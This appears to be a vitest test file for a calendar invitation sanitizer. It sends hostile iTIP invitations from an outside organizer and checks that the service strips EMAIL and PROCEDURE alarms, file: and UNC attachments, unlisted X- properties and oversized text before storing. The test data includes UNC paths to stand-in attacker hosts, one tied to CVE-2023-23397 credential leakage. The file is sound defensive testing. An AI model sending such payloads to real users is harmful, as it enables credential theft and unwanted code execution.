// A corpus of hostile calendar content from outside organizers, one row per
// rule of src/itip/rules/hostile-content.ts: each mail goes through the real
// transaction service (reader, core, LMDB) with onward delivery to a real
// maildir, and the row checks that the stored object no longer carries the
// hostile part, that the journal says what was removed, and that the copy in
// the mailbox is the mail exactly as it came.

import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TransactionService } from '../../src/agent/transaction-service.js';
import { MAX_TEXT } from '../../src/itip/rules/hostile-content.js';
import { LmdbStore } from '../../src/store/lmdb-store.js';
import { onwardTo, parseTarget } from '../../src/transport/deliver.js';

const NOW = Date.parse('2026-11-15T12:00:00Z');
const ALICE = 'alice@example.com';

interface Row {
  name: string;
  /** Lines inside the organizer's VEVENT. */
  lines: string[];
  /** Text the stored object must not hold (unfolded). */
  lacks: string[];
  /** Text it must still hold: what the rule lets through. */
  keeps?: string[];
  /** Words of the journal reason. */
  journal: string;
}

const alarm = (...lines: string[]) => ['BEGIN:VALARM', 'TRIGGER:-PT15M', ...lines, 'END:VALARM'];

const ROWS: Row[] = [
  {
    name: 'an EMAIL alarm is dropped',
    lines: alarm('ACTION:EMAIL', 'SUMMARY:Win', 'DESCRIPTION:spam body', 'ATTENDEE:mailto:victim@example.net'),
    lacks: ['ACTION:EMAIL', 'mailto:victim@example.net'],
    journal: 'a VALARM with ACTION:EMAIL',
  },
  {
    name: 'a PROCEDURE alarm is dropped',
    lines: alarm('ACTION:PROCEDURE', 'ATTACH:file:///usr/bin/evil'),
    lacks: ['ACTION:PROCEDURE', 'evil'],
    journal: 'a VALARM with ACTION:PROCEDURE',
  },
  {
    name: 'an AUDIO alarm with a UNC sound path loses the ATTACH (CVE-2023-23397) and keeps the alarm',
    lines: alarm('ACTION:AUDIO', 'ATTACH:\\\\\\\\attacker.example\\\\share\\\\ding.wav'),
    lacks: ['attacker.example'],
    keeps: ['ACTION:AUDIO'],
    journal: 'of an alarm with ACTION:AUDIO',
  },
  {
    name: 'an AUDIO alarm keeps an https sound',
    lines: alarm('ACTION:AUDIO', 'ATTACH:https://sounds.example.org/ding.wav'),
    lacks: [],
    keeps: ['ACTION:AUDIO', 'ATTACH:https://sounds.example.org/ding.wav'],
    journal: '',
  },
  {
    name: 'a DISPLAY alarm keeps working',
    lines: alarm('ACTION:DISPLAY', 'DESCRIPTION:Reminder'),
    lacks: [],
    keeps: ['ACTION:DISPLAY'],
    journal: '',
  },
  {
    name: 'an ATTACH with a file: URI is dropped',
    lines: ['ATTACH:file:///C:/Users/Public/agenda.lnk'],
    lacks: ['agenda.lnk'],
    journal: 'the ATTACH file:///C:/Users/Public/agenda.lnk',
  },
  {
    name: 'an ATTACH with a UNC path is dropped',
    lines: ['ATTACH:\\\\\\\\files.attacker.example\\\\agenda.docx'],
    lacks: ['files.attacker.example'],
    journal: 'the ATTACH',
  },
  {
    name: 'an ATTACH over https stays',
    lines: ['ATTACH;FMTTYPE=application/pdf:https://docs.example.org/agenda.pdf'],
    lacks: [],
    keeps: ['https://docs.example.org/agenda.pdf'],
    journal: '',
  },
  {
    name: 'X- properties off the allow-list are dropped, listed ones stay',
    lines: ['X-EVIL-SCRIPT:run()', 'X-TRACKING-ID:12345', 'X-MICROSOFT-CDO-BUSYSTATUS:BUSY', 'X-MOZ-GENERATION:3', 'X-APPLE-TRAVEL-ADVISORY-BEHAVIOR:AUTOMATIC'],
    lacks: ['X-EVIL-SCRIPT', 'X-TRACKING-ID'],
    keeps: ['X-MICROSOFT-CDO-BUSYSTATUS:BUSY', 'X-MOZ-GENERATION:3', 'X-APPLE-TRAVEL-ADVISORY-BEHAVIOR:AUTOMATIC'],
    journal: 'the X- properties X-EVIL-SCRIPT, X-TRACKING-ID',
  },
  {
    name: 'an oversized DESCRIPTION is cut',
    lines: [`DESCRIPTION:${'a'.repeat(MAX_TEXT)}TAIL-BEYOND-LIMIT`],
    lacks: ['TAIL-BEYOND-LIMIT'],
    keeps: ['DESCRIPTION:aaaa'],
    journal: `DESCRIPTION cut from ${MAX_TEXT + 17} to ${MAX_TEXT} characters`,
  },
  {
    name: 'an oversized X-ALT-DESC is cut',
    lines: [`X-ALT-DESC;FMTTYPE=text/html:<p>${'b'.repeat(MAX_TEXT)}HTML-BEYOND-LIMIT</p>`],
    lacks: ['HTML-BEYOND-LIMIT'],
    keeps: ['X-ALT-DESC;FMTTYPE=text/html:<p>bbbb'],
    journal: 'X-ALT-DESC cut',
  },
];

function invitation(row: Row, index: number): Buffer {
  const ics = [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'PRODID:-//Hostile//EN',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    `UID:hostile-${index}@outside.example`,
    'DTSTAMP:20261101T080000Z',
    'DTSTART:20261201T090000Z',
    'DTEND:20261201T100000Z',
    'SEQUENCE:0',
    'SUMMARY:Quarterly review',
    'ORGANIZER:mailto:mallory@outside.example',
    `ATTENDEE;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:${ALICE}`,
    ...row.lines,
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
  const headers = [
    'From: <mallory@outside.example>',
    `To: <${ALICE}>`,
    'Subject: Quarterly review',
    `Message-ID: <hostile-${index}@outside.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/calendar; charset=utf-8; method=REQUEST',
    'Content-Transfer-Encoding: 8bit',
  ];
  return Buffer.from(`${headers.join('\r\n')}\r\n\r\n${ics}`, 'utf8');
}

let dir: string;
let store: LmdbStore;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'itip-hostile-content-'));
  store = new LmdbStore(join(dir, 'store'));
});
afterEach(async () => {
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('hostile content from an outside organizer', () => {
  ROWS.forEach((row, index) => {
    it(row.name, async () => {
      const service = new TransactionService({ store, onward: onwardTo(parseTarget(`maildir:${dir}/mail/{local}`)), now: () => NOW });
      const raw = invitation(row, index);
      const result = await service.run({ kind: 'mail', raw, sender: 'mallory@outside.example', recipients: [ALICE], replies: 'once' });
      expect(result.failures).toEqual([]);

      const [entry] = await store.listJournal(`mailto:${ALICE}`);
      expect(entry.outcome).toBe('applied');
      if (row.journal) expect(entry.reason).toContain(`removed from the sender's content before storing: `);
      if (row.journal) expect(entry.reason).toContain(row.journal);
      else expect(entry.reason).not.toContain('removed from');

      const stored = await store.getObject(`mailto:${ALICE}`, `hostile-${index}@outside.example`);
      expect(stored).toBeDefined();
      const text = stored!.ics.replace(/\r\n[ \t]/g, '');
      for (const part of row.lacks) expect(text).not.toContain(part);
      for (const part of row.keeps ?? []) expect(text).toContain(part);

      // The mailbox gets the mail as it came, hostile parts and all.
      const delivered = readdirSync(join(dir, 'mail', 'alice', 'new'));
      expect(delivered).toHaveLength(1);
      expect(readFileSync(join(dir, 'mail', 'alice', 'new', delivered[0]!)).equals(raw)).toBe(true);
    });
  });

  it('keeps the user\'s own alarm on their copy when the organizer updates the event', async () => {
    const service = new TransactionService({ store, onward: onwardTo(parseTarget('none')), now: () => NOW });
    const first = invitation({ name: '', lines: [], lacks: [], journal: '' }, 99);
    await service.run({ kind: 'mail', raw: first, sender: 'mallory@outside.example', recipients: [ALICE], replies: 'once' });
    // The user's own EMAIL alarm, set by their client on their copy.
    await store.transact(`mailto:${ALICE}`, (tx) => {
      const own = tx.getObject('hostile-99@outside.example')!;
      tx.putObject({ ...own, ics: own.ics.replace('END:VEVENT', 'BEGIN:VALARM\r\nACTION:EMAIL\r\nTRIGGER:-PT1H\r\nSUMMARY:Mine\r\nDESCRIPTION:Mine\r\nATTENDEE:mailto:alice@example.com\r\nEND:VALARM\r\nEND:VEVENT') });
    });
    const update = Buffer.from(
      invitation({ name: '', lines: alarm('ACTION:EMAIL', 'SUMMARY:Theirs', 'DESCRIPTION:x', 'ATTENDEE:mailto:victim@example.net'), lacks: [], journal: '' }, 99)
        .toString('utf8')
        .replace('SEQUENCE:0', 'SEQUENCE:1')
        .replace('DTSTAMP:20261101T080000Z', 'DTSTAMP:20261102T080000Z')
        .replace('Message-ID: <hostile-99@', 'Message-ID: <hostile-99b@'),
    );
    await service.run({ kind: 'mail', raw: update, sender: 'mallory@outside.example', recipients: [ALICE], replies: 'once' });
    const text = (await store.getObject(`mailto:${ALICE}`, 'hostile-99@outside.example'))!.ics;
    expect(text).toContain('SUMMARY:Mine');
    expect(text).not.toContain('victim@example.net');
  });
});
